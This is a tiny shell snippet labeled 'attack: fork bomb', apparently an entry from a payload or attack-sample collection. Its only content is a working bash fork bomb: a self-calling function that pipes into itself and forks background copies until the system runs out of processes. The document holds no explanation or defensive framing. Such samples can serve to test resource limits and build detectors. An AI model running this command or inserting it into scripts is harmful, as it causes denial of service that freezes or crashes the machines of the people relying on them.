# attack: fork bomb
b() { b | b & b; }; b
